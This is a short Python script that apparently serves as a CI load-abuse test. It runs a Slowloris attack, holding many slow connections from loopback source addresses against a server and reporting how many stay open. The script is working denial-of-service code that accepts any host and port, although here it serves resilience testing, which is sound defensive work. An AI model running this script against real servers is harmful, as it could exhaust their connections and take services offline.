#!/usr/bin/env python3
"""Slowloris for ci/bench-abuse.sh: CONNECTIONS connections spread over SOURCES loopback
addresses (127.0.2.x), each sending one header byte every INTERVAL seconds and opening a
new connection whenever the server closes one. Runs SECONDS, then prints one JSON line:
the most connections held open at once, and how many the server closed.

Usage: slowloris.py HOST:PORT SECONDS CONNECTIONS SOURCES [INTERVAL]
"""

import asyncio
import json
import sys
import time

REQUEST = b"GET /api/v1/keys HTTP/1.1\r\nHost: x\r\nx-slow: " + b"a" * 4096


async def one(host, port, source, deadline, interval, state):
    while time.monotonic() < deadline:
        try:
            reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
        except OSError:
            state["refused"] += 1
            await asyncio.sleep(1)
            continue
        state["open"] += 1
        state["peak"] = max(state["peak"], state["open"])
        try:
            for b in REQUEST:
                if time.monotonic() >= deadline:
                    break
                writer.write(bytes([b]))
                await writer.drain()
                try:
                    data = await asyncio.wait_for(reader.read(1), timeout=interval)
                    if not data:
                        state["closed_by_server"] += 1
                        break
                except asyncio.TimeoutError:
                    pass
        except OSError:
            state["closed_by_server"] += 1
        finally:
            state["open"] -= 1
            writer.close()


async def main():
    addr, seconds, conns, sources = sys.argv[1], float(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
    interval = float(sys.argv[5]) if len(sys.argv) > 5 else 10.0
    host, port = addr.rsplit(":", 1)
    state = {"open": 0, "peak": 0, "closed_by_server": 0, "refused": 0}
    deadline = time.monotonic() + seconds
    srcs = [f"127.0.2.{i}" for i in range(sources)]
    await asyncio.gather(*(one(host, int(port), srcs[c % sources], deadline, interval, state) for c in range(conns)))
    print(json.dumps({"peak_open": state["peak"], "closed_by_server": state["closed_by_server"], "connect_refused": state["refused"]}))


asyncio.run(main())
